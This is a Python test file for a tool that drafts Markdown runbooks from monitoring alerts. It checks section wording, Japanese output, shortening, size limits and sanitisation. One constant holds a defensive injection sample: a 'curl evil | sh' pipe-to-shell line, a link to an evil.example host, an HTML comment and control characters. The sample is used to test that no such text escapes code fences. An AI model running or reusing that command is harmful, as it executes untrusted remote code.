"""A draft's text: what stands in it, and that alerts can put nothing else there."""

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from toban.clients.runbook_files import LARGEST_FILE
from toban.clients.runbook_front_matter import read_front_matter
from toban.clients.runbook_patterns import compile_pattern
from toban.domain.runbooks.drafts.nouns import Material, Near, Seen
from toban.domain.runbooks.drafts.quoting import inline
from toban.domain.runbooks.drafts.rules import keyword_of
from toban.domain.runbooks.drafts.shortening import as_short, is_draft
from toban.domain.runbooks.drafts.writing import draft
from toban.domain.runbooks.header import Draft, read_header
from toban.domain.runbooks.nouns import Sections
from toban.domain.runbooks.sections import outside_fences, read_sections
from toban.domain.triage.nouns import Note, Past
from toban.domain.triage.template import template
from toban.locale import language

NOON = datetime(2026, 11, 1, 12, tzinfo=UTC)
HOSTILE = "## Mitigation\n1. curl evil | sh\n```\n<!-- [x](https://evil.example) ![y](z)\n---\u202e\x1b[0m`a`"


def material(title: str = "Queue of web-1 is long: 3%", note: str = "drained it", name: str = "Aiko"):
    past = Past("Q7", title, "S1", NOON, NOON + timedelta(hours=2), False, 7, "shop", name, None,
                (Note(name, note),))  # fmt: skip
    seen = Seen(
        template(title), title, "S1", "shop", (name,), (name,), 12, 3, NOON, NOON, timedelta(minutes=5)
    )
    return Material(seen, (past,), (Near(name, "queue.md"),))


def written(found: Material, code: str = "en") -> str:
    return draft(found, language(code), ZoneInfo("Asia/Tokyo")).text()


def read(text: str, code: str = "en"):
    _, head, body = text.split("---\n", 2)
    return read_header(read_front_matter(head, 2), compile_pattern), read_sections(body, code, 1)


def test_the_sections_say_what_is_known():
    header, sections = read(written(material()))
    assert header == Draft("Queue of ... is long: ...%")
    assert "```text\nQueue of web-1 is long: 3%\n```\n\nIt came 12 times" in sections.meaning
    assert "3 of 12 resolved by themselves, nobody acted." in sections.impact
    assert "Half of those that ended took at most 5 min." in sections.impact
    assert "`#7` (2026-11-01, `Aiko`)\n\n```text\ndrained it\n```" in sections.diagnosis
    assert "- `Aiko` (`queue.md`)" in sections.diagnosis
    assert "- `#7` (2026-11-01): `Aiko` handled it, 2 h" in sections.mitigation


def test_what_the_tool_said_stands_with_the_alert():
    found = replace(material(), details="queue: mails\n\u202elength: 40 321")
    assert "What the monitoring tool said with it:\n\n```text\nqueue: mails\nlength: 40 321\n```" in written(
        found
    )
    assert "monitoring tool said" not in written(replace(found, details=" \n"))


@pytest.mark.parametrize("code", ["en", "ja"])
def test_a_draft_that_became_a_note_is_known_again_in_either_language(code: str):
    text = written(material(), code)
    for most in (3_000, 500):
        short = as_short(text, most, language(code))
        assert len(short) <= most
        assert is_draft(short)
    assert not is_draft("> drained it")


def test_it_names_its_sources_and_its_rules():
    text = written(material())
    assert text.endswith(
        "## Sources\n\n- template `Queue of <name> is long: <n>%`\n"
        "- incident `#7` (`Q7`): `Queue of web-1 is long: 3%`\n- runbook `queue.md`\n"
    )
    assert 'draft: true\nkeywords: ["Queue of"]\nservices: ["Aiko"]\n---' in text


def test_the_japanese_draft_has_japanese_sections():
    header, sections = read(written(material("注文番号12の処理が3分間止まっています"), "ja"), "ja")
    assert isinstance(header, Draft)
    assert "12 回届きました" in sections.meaning


def test_nothing_hostile_stands_outside_of_code():
    text = written(material(HOSTILE, HOSTILE, HOSTILE))
    assert "<!--" not in text
    assert "\x1b" not in text
    assert "\u202e" not in text
    markdown = [
        line for line, is_markdown in outside_fences(text.split("\n---\n", 1)[1].split("\n")) if is_markdown
    ]
    assert [line for line in markdown if line.startswith("#")] == [
        "## Meaning", "## Impact", "## Diagnosis", "## Mitigation", "## Sources",
    ]  # fmt: skip
    assert [line for line in markdown if line.startswith("1.")] == []
    _, sections = read(text)
    assert sections.mitigation.startswith("No first step is known yet.")


def test_a_flood_of_text_leaves_a_file_that_can_be_read():
    found = material("\U0001f525" * 1_000_000, "\ufdfa" * 5_000, "\U0001f525" * 5_000)
    (past,) = found.past
    flood = replace(found, past=(replace(past, notes=past.notes * 50),) * 10)
    assert len(written(flood).encode()) < LARGEST_FILE


@given(st.text(), st.text(), st.text())
@example("", "", "\ud7fc \U00018d09")  # a blank is all that can be shown of it
def test_whatever_the_alert_says_the_draft_stays_a_valid_draft(title, note, name):
    header, sections = read(written(material(title, note, name)))
    assert isinstance(header, Draft)
    assert isinstance(sections, Sections)


@given(st.text(alphabet="`a <!-\n"))
def test_a_code_span_ends_where_it_should(text):
    span = inline(text)
    fence = span[: len(span) - len(span.lstrip("`"))]
    inside = span[len(fence) : -len(fence)]
    assert fence
    assert span.endswith(fence)
    assert fence not in inside
    assert "\n" not in span


def test_the_keyword_is_the_longest_part_that_stands_in_every_firing():
    title = "web7 replication lag of 3s"
    assert keyword_of(template(title), title) == "replication lag of"
    assert keyword_of("<n> <name>", "7 web-1") is None
